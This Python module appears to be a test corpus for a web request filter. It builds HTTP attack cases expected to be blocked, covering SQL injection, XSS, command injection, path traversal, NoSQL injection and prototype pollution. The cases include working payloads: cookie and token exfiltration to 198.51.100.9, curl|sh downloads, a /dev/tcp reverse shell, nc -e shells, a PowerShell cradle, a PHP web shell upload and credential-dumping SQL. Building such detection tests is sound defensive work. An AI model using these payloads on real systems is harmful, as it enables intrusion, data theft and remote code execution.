"""Attacks (expect block) embedded in the same kinds of traffic as the benign cases: a real
exploit payload aimed at a named sink, in a ticket field, a chat message, a search box, a
webhook payload, a markdown code fence, a log line, a config upload. Each case's note names
the sink the payload is aimed at. Payload forms are the well-known public ones (SQLi UNION /
boolean / time-based / stacked, reflected and stored XSS vectors, shell metacharacter command
injection, ../ path traversal in its encodings, MongoDB operator injection, JavaScript
prototype pollution and its known gadgets)."""
from common import *

ATK = "atk"


def _j(c, cat, app, method, path, obj, note, headers=None):
    c.add(ATK, app, method, path, "body", jdump(obj), headers or api_headers(c), expect="block", category=cat, note=note)


def _f(c, cat, app, path, pairs, note, headers=None):
    c.add(ATK, app, "POST", path, "body", qs(pairs), headers or browser_headers(c, ctype="application/x-www-form-urlencoded"), expect="block", category=cat, note=note)


def _q(c, cat, app, path, params, note, plus=True, headers=None):
    c.add(ATK, app, "GET", url(path, params, plus), "query", "", headers or browser_headers(c), expect="block", category=cat, note=note)


def _mp(c, cat, app, path, fields, note):
    b = "----WebKitFormBoundary" + token(c, 16)
    c.add(ATK, app, "POST", path, "multipart", multipart(fields, b), browser_headers(c, ctype="multipart/form-data; boundary=" + b), expect="block", category=cat, note=note)


def _h(c, cat, app, path, hdrs, note, where="header"):
    h = browser_headers(c)
    h.update(hdrs)
    c.add(ATK, app, "GET", path, where, "", h, expect="block", category=cat, note=note)


def _p(c, cat, app, path, note):
    c.add(ATK, app, "GET", path, "path", "", browser_headers(c), expect="block", category=cat, note=note)


def sqli(c):
    s = "sqli"
    _q(c, s, "site-search", "/api/search", [("q", "shoes' UNION SELECT username,password_hash,NULL,NULL FROM users-- -"), ("page", "1")], "UNION into the product search query")
    _q(c, s, "shop", "/products", [("category", "3 AND updatexml(1,concat(0x7e,(SELECT user())),1)")], "error-based MySQL via category id")
    _q(c, s, "shop", "/products", [("sort", "(CASE WHEN (SELECT substring(password,1,1) FROM users WHERE id=1)='a' THEN name ELSE price END)")], "boolean inference through ORDER BY")
    _q(c, s, "crm", "/api/contacts", [("name", "x' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"), ("limit", "25")], "time-based blind in contact name filter", plus=False)
    _q(c, s, "reports", "/api/reports/run", [("id", "7; DROP TABLE audit_log--")], "stacked query on report id")
    _q(c, s, "odata", "/odata/Customers", [("$orderby", "CompanyName; WAITFOR DELAY '0:0:5'--")], "naive OData-to-T-SQL translator", plus=False)
    _q(c, s, "inventory", "/api/inventory/lookup", [("sku", "TS-001' UNION SELECT table_name,column_name FROM information_schema.columns-- ")], "UNION schema dump via SKU lookup")
    _q(c, s, "legacy-app", "/item.php", [("id", "-1 UNION ALL SELECT 1,group_concat(email,0x3a,password),3 FROM users")], "classic numeric UNION")
    _q(c, s, "legacy-app", "/news.asp", [("id", "1'; EXEC master..xp_cmdshell 'whoami'--")], "MSSQL stacked xp_cmdshell")
    _q(c, s, "mobile-api", "/v1/lookup", [("user", "admin' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--")], "boolean blind on user lookup")
    _q(c, s, "blog", "/search", [("s", "' UNION SELECT sql,2 FROM sqlite_master--")], "SQLite schema via search")
    _q(c, s, "erp", "/api/parts", [("q", "x' UNION SELECT banner,NULL FROM v$version--")], "Oracle version UNION", plus=False)
    _f(c, s, "login", "/login", [("username", "admin'-- "), ("password", "anything")], "auth bypass by comment in login form")
    _f(c, s, "login", "/login", [("username", "' OR '1'='1' -- "), ("password", "' OR '1'='1")], "tautology in login form")
    _f(c, s, "helpdesk-widget", "/support/tickets/55120/replies", [("reply[body]", "Still broken."), ("reply[private]", "0 OR 1=1) UNION SELECT api_token,2,3 FROM agents-- ")], "injection in a numeric form field of a ticket reply")
    _j(c, s, "helpdesk", "POST", "/api/v2/tickets.json", {"ticket": {"subject": "Refund request", "comment": {"body": "Please refund order 1042."}, "requester": {"name": "Al", "email": "al@example.com' AND 1=(SELECT COUNT(*) FROM tabname); --"}}}, "requester email concatenated into lookup query")
    _j(c, s, "graphql", "POST", "/graphql", {"query": "query Order($id: ID!) { order(id: $id) { name } }", "variables": {"id": "1' OR '1'='1' UNION SELECT card_number FROM payments-- "}}, "resolver builds SQL from variable")
    _j(c, s, "shopify-app", "POST", "/webhooks/shopify/orders-create", {"id": 5001, "email": "x@example.com", "note": "x'); UPDATE users SET role='admin' WHERE email='x@example.com';--", "line_items": []}, "second-order injection through an order note the app stores with string SQL")
    _j(c, s, "rest-api", "POST", "/api/v1/orders/search", {"filter": {"status": "open"}, "limit": "10 UNION SELECT id,password FROM users", "offset": 0}, "LIMIT concatenated from JSON")
    _j(c, s, "pg-app", "POST", "/api/exports", {"table": "orders", "where": "1=1; COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.9/x|sh'--"}, "Postgres stacked COPY TO PROGRAM")
    c.add(ATK, "slack", "POST", "/slack/commands", "body", qs([("token", token(c, 24)), ("team_id", "T0001"), ("command", "/lookup"), ("text", "42 UNION SELECT access_token,refresh_token FROM oauth_tokens"), ("user_name", "mallory"), ("response_url", "https://hooks.slack.com/commands/1/2")]),
          {"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)"}, expect="block", category=s, note="slash command text interpolated into the bot's SQL lookup")
    _h(c, s, "analytics", "/api/v1/feed", {"X-Forwarded-For": "203.0.113.7' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- "}, "client IP written into access log table")
    _h(c, s, "web", "/account/orders", {"Cookie": "session=%s; tracking_id=abc' OR '1'='1" % token(c, 32)}, "tracking cookie used in a query", where="cookie")
    _h(c, s, "web", "/", {"User-Agent": "Mozilla/5.0' AND SLEEP(10) AND '1'='1", "Accept": "*/*"}, "user agent stored by visit logger")
    _p(c, s, "inventory", "/api/items/5%20UNION%20SELECT%20password%20FROM%20users--", "numeric path id")
    _p(c, s, "shop", "/product/12'%20OR%20'1'='1", "product slug/id in path")
    _mp(c, s, "kb", "/admin/articles/new", [("article[title]", "x' OR 1=1#"), ("article[body]", "test"), ("article[draft]", "0 AND (SELECT 1 FROM pg_sleep(5))")], "multipart fields in admin article form")
    _j(c, s, "issue-tracker", "POST", "/rest/api/3/search", {"jql": "project = WEB", "orderBy": "created; SELECT pg_sleep(10)--", "maxResults": 50}, "orderBy passed to the SQL builder")


def xss(c):
    s = "xss"
    _f(c, s, "forum", "/t/4411/posts", [("raw", "Great tip, thanks!\n<script>fetch('https://198.51.100.9/c?'+document.cookie)</script>"), ("topic_id", "4411")], "stored XSS in a forum post")
    _j(c, s, "community", "POST", "/api/discussions/77/comments", {"comment": {"body": "Here's the fix:\n\n```\n</code></pre><img src=x onerror=alert(document.domain)>\n```", "format": "markdown"}}, "breaking out of a markdown code fence in the renderer")
    _j(c, s, "community", "POST", "/api/discussions/78/comments", {"comment": {"body": "See the [docs](javascript:alert(document.cookie)) for details.", "format": "markdown"}}, "javascript: URL in a markdown link")
    _f(c, s, "account", "/account/profile", [("first_name", "Eve"), ("display_name", "\"><svg/onload=alert(1)>")], "display name reflected in attribute")
    _q(c, s, "site-search", "/api/search", [("q", "\"><script>alert(1)</script>"), ("page", "1")], "reflected search term")
    _q(c, s, "help-center", "/hc/en-us/search", [("query", "<img src=x onerror=prompt(document.domain)>")], "reflected help-center query")
    _q(c, s, "auth", "/login", [("return_to", "javascript:alert(document.domain)//")], "javascript: redirect target", plus=False)
    _q(c, s, "web", "/error", [("msg", "<iframe src=\"javascript:alert(`xss`)\"></iframe>")], "error message reflected")
    _j(c, s, "slack-dashboard", "POST", "/slack/events", {"type": "event_callback", "event": {"type": "message", "user": "U0MALLORY", "text": "status update <img src=x onerror=\"fetch('//198.51.100.9/'+localStorage.token)\">", "ts": "1715600123.000200"}}, "message text rendered as HTML by the team's web dashboard",
       headers={"Content-Type": "application/json", "User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)"})
    _j(c, s, "error-reporting", "POST", "/api/client-errors", {"level": "error", "message": "<script src=//198.51.100.9/x.js></script>", "url": "https://app.example.com/checkout", "stack": "at render (app.js:1:1)"}, "blind XSS aimed at the admin log viewer")
    _j(c, s, "zendesk", "POST", "/zendesk/trigger", {"ticket": {"id": 4522, "subject": "<details open ontoggle=alert(document.cookie)>", "description": "hello", "requester": {"name": "x", "email": "x@example.com"}}}, "ticket subject rendered in agent UI")
    _j(c, s, "intercom", "POST", "/intercom/webhook", {"type": "notification_event", "topic": "conversation.user.created", "data": {"item": {"type": "conversation", "source": {"body": "<p>hi</p><img src=x onerror=alert(document.domain)>", "author": {"type": "user", "name": "x"}}}}}, "conversation body re-rendered by the receiving app")
    _j(c, s, "cms", "POST", "/wp-json/wp/v2/comments", {"post": 12, "author_name": "Visitor", "content": "<a href=\"#\" onmouseover=\"alert(1)\">nice post</a>"}, "event handler in a comment")
    _j(c, s, "i18n", "PUT", "/api/projects/web/locales/fr/messages", {"greeting": "Bonjour {name} <img src=x onerror=alert(1)>"}, "malicious translation from a community translator, rendered as HTML")
    _j(c, s, "templates", "POST", "/api/templates", {"name": "promo", "engine": "angular", "source": "{{constructor.constructor('alert(document.cookie)')()}}"}, "AngularJS client-side template injection")
    _mp(c, s, "files-api", "/api/v1/avatars", [("avatar", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.domain)\"><rect width=\"10\" height=\"10\"/></svg>", "avatar.svg", "image/svg+xml")], "SVG with onload served from same origin")
    _mp(c, s, "kb", "/admin/articles/new", [("article[title]", "Release notes"), ("article[body]", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"), ("article[draft]", "0")], "mutation XSS against the sanitizer")
    _f(c, s, "web-form", "/forms/submit", [("comment", "<body onload=alert('xss')>"), ("rating", "5")], "feedback shown in admin panel")
    _f(c, s, "web-form", "/forms/submit", [("feedback", "<a href=\"jav&#x09;ascript:alert(1)\">click</a>"), ("page", "/settings")], "entity-obfuscated javascript: URL")
    _f(c, s, "newsletter", "/campaigns/1201/content", [("html", "<p>Sale!</p><object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>")], "data: URL object in campaign preview")
    _h(c, s, "analytics", "/collect?v=2&en=page_view", {"Referer": "https://example.com/\"><script>alert(1)</script>"}, "referer shown in analytics dashboard")
    _h(c, s, "web", "/account/orders", {"Cookie": "lang=en\"><script>alert(document.domain)</script>; theme=dark"}, "cookie value reflected in page", where="cookie")
    _h(c, s, "support-portal", "/tickets/new", {"User-Agent": "<script>alert('ua')</script>"}, "user agent shown to support agents")
    _j(c, s, "graphql", "POST", "/graphql", {"query": "mutation UpdateNote($id: ID!, $body: String!) { updateNote(id: $id, body: $body) { id } }", "variables": {"id": "n_81", "body": "<input autofocus onfocus=alert(document.cookie)>"}}, "note body rendered unescaped")
    _j(c, s, "code-review", "POST", "/repos/acme/storefront/pulls/9/comments", {"body": "LGTM <img src=1 onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>", "path": "a.go", "line": 3}, "review comment rendered by a self-hosted dashboard")
    _p(c, s, "web", "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "search term echoed from path")
    _q(c, s, "web", "/embed", [("callback", "alert(document.domain)//")], "JSONP callback")
    _j(c, s, "notes-app", "PUT", "/api/notes/6b0d", {"title": "x", "content": "<style>@import'//198.51.100.9/x.css';</style><svg><animate onbegin=alert(1) attributeName=x dur=1s>"}, "SVG animate handler in note HTML")


def cmdi(c):
    s = "cmdi"
    _q(c, s, "net-tools", "/api/diag/ping", [("host", "8.8.8.8;cat /etc/passwd")], "ping host passed to sh -c")
    _q(c, s, "net-tools", "/api/diag/traceroute", [("host", "127.0.0.1 && id")], "traceroute wrapper")
    _q(c, s, "net-tools", "/api/diag/dns", [("name", "`whoami`.198.51.100.9.nip.io")], "backticks in hostname for dig")
    _q(c, s, "net-tools", "/api/diag/ping", [("host", "8.8.8.8|| ping -c 10 127.0.0.1 ||")], "time-based blind")
    _q(c, s, "net-tools", "/cgi-bin/ping.cgi", [("ip", "1.1.1.1\nid")], "newline separator", plus=False)
    _q(c, s, "imaging", "/api/thumbs", [("src", "photo.jpg; curl http://198.51.100.9/s.sh | sh"), ("w", "200")], "file name handed to ImageMagick via shell")
    _q(c, s, "win-tools", "/api/files/checksum", [("file", "report.pdf & type C:\\Windows\\win.ini")], "cmd.exe concatenation")
    _q(c, s, "net-tools", "/api/diag/ping", [("host", "127.0.0.1;cat${IFS}/etc/shadow")], "IFS whitespace evasion")
    _j(c, s, "ci-product", "POST", "/api/v1/pipelines/trigger", {"repo": "acme/app", "ref": "main$(curl -s http://198.51.100.9/p|bash)", "variables": {}}, "ref interpolated into a shell step")
    _j(c, s, "ci-runner", "POST", "/webhooks/github", {"action": "opened", "number": 91, "pull_request": {"title": "fix typo\"; curl -sSfL https://198.51.100.9/x.sh | bash; echo \"", "head": {"ref": "patch-1"}}, "repository": {"full_name": "acme/app"}},
       "PR title expanded inside a workflow run: step (Actions script injection)", headers={"Content-Type": "application/json", "X-GitHub-Event": "pull_request", "User-Agent": "GitHub-Hookshot/abc123"})
    _j(c, s, "domain-api", "POST", "/api/domains/verify", {"domain": "example.com; nslookup $(whoami).198.51.100.9.nip.io"}, "domain passed to a shell whois/dig")
    _j(c, s, "backup-api", "POST", "/api/backups", {"name": "nightly$(rm -rf /var/backups)", "target": "s3"}, "backup name in tar command line")
    _j(c, s, "git-mirror", "POST", "/api/mirrors", {"url": "--upload-pack=touch /tmp/pwned", "branch": "main"}, "argument injection into git clone")
    _j(c, s, "video", "POST", "/api/transcode", {"input": "in.mp4", "output": "out.mp4 -y; bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"}, "reverse shell through ffmpeg wrapper")
    _j(c, s, "pdf-service", "POST", "/api/render", {"url": "https://example.com", "filename": "invoice.pdf`id`"}, "filename in wkhtmltopdf command")
    _f(c, s, "router-admin", "/apply.cgi", [("action", "ping"), ("ping_ip", "192.168.1.1 | nc 198.51.100.9 4444 -e /bin/sh")], "router web admin diag form")
    _f(c, s, "slack", "/slack/commands", [("command", "/deploy"), ("text", "api --env=prod; curl http://198.51.100.9/k | sh"), ("user_name", "mallory")], "slash command text run by the deploy bot's shell",
       headers={"Content-Type": "application/x-www-form-urlencoded", "User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)"})
    _f(c, s, "printer", "/cgi-bin/print", [("file", "doc.txt;wget http://198.51.100.9/b -O /tmp/b;chmod +x /tmp/b;/tmp/b")], "download and execute")
    _mp(c, s, "imaging", "/api/upload", [("image", "GIF89a", "x.png;nc -e /bin/sh 198.51.100.9 4444", "image/png")], "uploaded file name used in a shell command")
    _mp(c, s, "win-tools", "/upload", [("path", "C:\\uploads\\a.txt | powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://198.51.100.9/a')\""), ("file", "x", "a.txt", "text/plain")], "PowerShell download cradle")
    _h(c, s, "legacy-app", "/cgi-bin/status", {"User-Agent": "() { :; }; /bin/bash -c 'cat /etc/passwd'"}, "Shellshock via CGI environment")
    _h(c, s, "legacy-app", "/cgi-bin/test.cgi", {"Referer": "() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id"}, "Shellshock in Referer")
    _h(c, s, "web", "/api/v1/export", {"Cookie": "export_name=report$(sleep 10); session=%s" % token(c, 32)}, "cookie used as export file name in shell", where="cookie")
    _p(c, s, "net-tools", "/api/diag/ping/127.0.0.1;id", "host in path segment")
    _j(c, s, "scheduler", "PATCH", "/api/v1/jobs/42/args", {"args": ["--since", "1 day ago'; curl http://198.51.100.9/$(hostname); '"]}, "job argument that the app wraps in single quotes for sh -c (not the command field the product owns)")


def traversal(c):
    s = "traversal"
    _q(c, s, "files-api", "/download", [("file", "../../../../etc/passwd")], "download by name")
    _q(c, s, "cms", "/index.php", [("page", "..%2f..%2f..%2fetc%2fpasswd")], "template include, encoded", plus=False)
    _q(c, s, "files-api", "/download", [("file", "....//....//....//etc/passwd")], "filter that strips ../ once")
    _q(c, s, "win-tools", "/viewer", [("doc", "..\\..\\..\\..\\windows\\win.ini")], "Windows backslashes")
    _q(c, s, "i18n", "/static/lang", [("lang", "../../../../etc/passwd%00")], "null-byte truncated locale include", plus=False)
    _q(c, s, "files-api", "/download", [("name", "%252e%252e%252f%252e%252e%252fapp%252f.env")], "double URL encoding", plus=False)
    _q(c, s, "reports", "/api/reports/template", [("name", "/etc/shadow")], "absolute path where a template name is expected")
    _q(c, s, "files-api", "/api/files", [("path", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd")], "overlong UTF-8 dots", plus=False)
    _q(c, s, "logs", "/api/logs/tail", [("file", "../../../../var/log/auth.log"), ("lines", "100")], "log viewer")
    _q(c, s, "theme", "/preview", [("theme", "../../../../proc/self/environ")], "theme loader")
    _p(c, s, "static", "/static/..%2f..%2f..%2fetc%2fshadow", "encoded slashes in static path")
    _p(c, s, "static", "/assets/../../../../etc/passwd", "raw dot segments in request target")
    _p(c, s, "java-app", "/public/..;/admin/users", "Tomcat path-parameter bypass")
    _p(c, s, "i18n", "/api/projects/web/locales/..%2f..%2f..%2fetc%2fpasswd/messages", "locale code used as a file name")
    _j(c, s, "account", "PATCH", "/api/v1/me", {"avatar_path": "../../../../proc/self/environ"}, "avatar path read back")
    _j(c, s, "config-api", "POST", "/v1/kv/services/app", {"key": "../../../../etc/cron.d/backdoor", "value": "* * * * * root id", "format": "txt"}, "key written as a file path")
    _j(c, s, "wiki", "POST", "/api/pages/render", {"include": "../../config/database.yml"}, "wiki include directive")
    _j(c, s, "email-api", "POST", "/v3/mail/send", {"template": "..\\..\\..\\web.config", "to": "x@example.com"}, "template path on a Windows host")
    _mp(c, s, "files-api", "/api/v1/upload", [("file", "<?php system($_GET['c']); ?>", "../../../../var/www/html/shell.php", "application/octet-stream")], "upload name written without basename()")
    _mp(c, s, "import", "/import/upload", [("mapping", "auto"), ("file", "ssh-ed25519 AAAAC3Nza attacker", "../../../root/.ssh/authorized_keys", "text/plain")], "zip-slip style upload name")
    _f(c, s, "web-form", "/forms/attachments", [("filename", "../../../etc/passwd"), ("action", "view")], "form field used in open()")
    _h(c, s, "web", "/account/orders", {"Cookie": "theme=../../../../etc/passwd; lang=en"}, "theme cookie used as include path", where="cookie")
    _h(c, s, "files-api", "/api/v1/upload-raw", {"X-File-Name": "../../../etc/cron.d/x"}, "file name header")
    _q(c, s, "backup-api", "/api/restore", [("archive", "..%5c..%5c..%5cboot.ini")], "encoded backslashes", plus=False)
    _j(c, s, "ci-product", "PUT", "/repos/acme/app/contents/..%2f..%2f.git%2fconfig", {"message": "x", "content_text": "[core]\n\tsshCommand = id", "branch": "main"}, "encoded traversal in the contents path")


def nosqli(c):
    s = "nosqli"
    _j(c, s, "login", "POST", "/api/auth/login", {"username": "admin", "password": {"$ne": None}}, "operator instead of password string")
    _j(c, s, "login", "POST", "/api/auth/login", {"email": {"$regex": "^a"}, "password": {"$gt": ""}}, "regex enumeration of accounts")
    _j(c, s, "login", "POST", "/api/auth/login", {"username": {"$gt": ""}, "password": {"$gt": ""}}, "match-any login")
    _f(c, s, "login", "/login", [("user[$ne]", "x"), ("pass[$ne]", "x")], "qs-style bracket operators in a form")
    _q(c, s, "account", "/api/users", [("username[$regex]", "^adm"), ("password[$exists]", "true")], "operator injection through the query parser")
    _q(c, s, "rest-api", "/api/v1/items", [("id[$gt]", "")], "dump all items")
    _j(c, s, "rest-api", "POST", "/api/v1/orders/search", {"filter": {"$where": "sleep(5000) || true"}}, "server-side JS in $where")
    _j(c, s, "rest-api", "POST", "/api/v1/users/search", {"filter": {"$where": "this.password.match(/^a/)"}}, "password inference via $where")
    _j(c, s, "helpdesk", "POST", "/api/v2/tickets/search", {"requester": "me@example.com", "status": {"$nin": []}, "org_id": {"$ne": 0}}, "widening a ticket lookup to all tenants")
    _j(c, s, "graphql", "POST", "/graphql", {"query": "query Users($where: JSON) { users(where: $where) { id email token } }", "variables": {"where": {"token": {"$ne": ""}}}}, "JSON scalar forwarded to Mongoose")
    _j(c, s, "password-reset", "POST", "/api/auth/reset", {"reset_token": {"$regex": ".*"}, "new_password": "Winter2024!"}, "reset-token bypass")
    _j(c, s, "mfa", "POST", "/api/auth/otp", {"user": "alice", "otp": {"$ne": "000000"}}, "OTP check bypass")
    _j(c, s, "rest-api", "POST", "/api/v1/products/find", {"q": {"$expr": {"$function": {"body": "function(){ sleep(5000); return true }", "args": [], "lang": "js"}}}}, "$function server-side JS")
    _j(c, s, "rest-api", "POST", "/api/v1/users/lookup", {"name": "'; return db.users.find(); var x='"}, "string injection into a $where built with concatenation")
    _f(c, s, "account", "/account/recover", [("email", "victim@example.com"), ("code[$ne]", "1")], "form operator on recovery code")
    _j(c, s, "shop", "POST", "/api/cart/apply-coupon", {"code": {"$regex": "^VIP"}}, "coupon code enumeration")
    _j(c, s, "crm", "POST", "/api/contacts/query", {"filter": {"owner": "u_17", "$or": [{"owner": {"$exists": True}}, {"owner": "u_17"}]}}, "$or that removes the owner restriction")
    _q(c, s, "crm", "/api/contacts", [("filter[email][$regex]", ".*"), ("limit", "1000")], "bracket operator on a filter param", plus=False)
    _j(c, s, "reports", "POST", "/api/reports/aggregate", {"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}, {"$project": {"u.password": 1}}]}, "user-controlled aggregation reading another collection")
    _j(c, s, "mobile-api", "POST", "/v1/session", {"device_id": "abc", "refresh_token": {"$exists": True}}, "refresh token bypass")
    _h(c, s, "web", "/api/v1/me", {"Cookie": "session_id[$ne]=x; lang=en"}, "cookie parsed with extended qs", where="cookie")
    _j(c, s, "rest-api", "PATCH", "/api/v1/orders/1042", {"$set": {"status": "paid", "total": 0}}, "update operator passed through to updateOne")


def proto(c):
    s = "proto"
    _j(c, s, "account", "PATCH", "/api/v1/me", {"name": "Eve", "__proto__": {"isAdmin": True}}, "deep merge of profile update")
    _j(c, s, "account", "PATCH", "/api/v1/me/settings", {"constructor": {"prototype": {"isAdmin": True}}}, "constructor.prototype merge")
    _q(c, s, "web", "/api/v1/feed", [("__proto__[admin]", "1")], "qs-style pollution", plus=False)
    _q(c, s, "web", "/api/v1/feed", [("constructor[prototype][polluted]", "yes")], "constructor path in query", plus=False)
    _q(c, s, "web", "/", [("__proto__[innerHTML]", "<img/src/onerror=alert(1)>")], "client-side pollution gadget leading to XSS", plus=False)
    _f(c, s, "web-form", "/forms/submit", [("comment", "hi"), ("__proto__[role]", "admin")], "form body parsed with extended qs")
    _j(c, s, "settings", "PUT", "/api/v1/workspace/settings", {"settings": {"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//", "NODE_OPTIONS": "--require /proc/self/cmdline"}}}, "child_process spawn gadget")
    _j(c, s, "templates", "POST", "/api/templates/render", {"name": "invoice", "data": {"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');x"}}}, "EJS outputFunctionName gadget")
    _j(c, s, "templates", "POST", "/api/templates/render", {"name": "mail", "options": {"__proto__": {"sourceURL": "\u2028\u2029};process.mainModule.require('child_process').execSync('id')//"}}}, "lodash.template sourceURL gadget")
    _j(c, s, "cloudevents", "POST", "/events", {"specversion": "1.0", "type": "com.example.user.updated", "source": "/users", "id": "1", "data": {"__proto__": {"polluted": "yes"}}}, "event data merged into a defaults object")
    _j(c, s, "i18n", "PUT", "/api/projects/web/locales/en/messages", {"__proto__": {"polluted": "yes"}, "greeting": "Hello"}, "catalogue merged with Object.assign-like deep merge")
    _mp(c, s, "kb", "/admin/articles/new", [("article[title]", "x"), ("__proto__[isAdmin]", "true")], "multipart field names parsed into nested objects")
    _j(c, s, "config-api", "PATCH", "/api/v1/config", {"path": "__proto__.isAdmin", "value": True}, "set-by-path library")
    _j(c, s, "config-api", "PATCH", "/api/v1/config", {"path": "constructor.prototype.isAdmin", "value": True}, "set-by-path through constructor")
    _j(c, s, "rest-api", "POST", "/api/v1/import", {"rows": [{"a": {"constructor": {"prototype": {"toString": "polluted"}}}}]}, "nested constructor in imported rows")
    _h(c, s, "web", "/account", {"Cookie": "prefs={\"__proto__\":{\"admin\":true}}; theme=dark"}, "JSON cookie merged into session defaults", where="cookie")
    _j(c, s, "rest-api", "POST", "/api/v1/echo", {"__proto__": {"json spaces": 10}}, "express json-spaces pollution probe")
    _q(c, s, "api", "/api/v1/items", [("__proto__[exposedHeaders]", "foo")], "CORS gadget probe", plus=False)
    _j(c, s, "rest-api", "POST", "/api/v1/jobs", {"name": "x", "opts": {"__proto__": {"env": {"EVIL": "console.log(require('child_process').execSync('id').toString())//"}, "shell": "node"}}}, "env/shell gadget for child_process")
    _q(c, s, "web", "/search", [("__proto__.isAdmin", "true")], "dot-path query parser", plus=False)
    _j(c, s, "graphql", "POST", "/graphql", {"query": "mutation($p: JSON) { updatePrefs(prefs: $p) }", "variables": {"p": {"__proto__": {"role": "admin"}}}}, "JSON scalar deep-merged into user prefs")
    _j(c, s, "shop", "POST", "/api/cart", {"items": [{"sku": "TS-001", "qty": 1}], "constructor": {"prototype": {"discount": 100}}}, "cart merge")


def build(c):
    sqli(c)
    xss(c)
    cmdi(c)
    traversal(c)
    nosqli(c)
    proto(c)
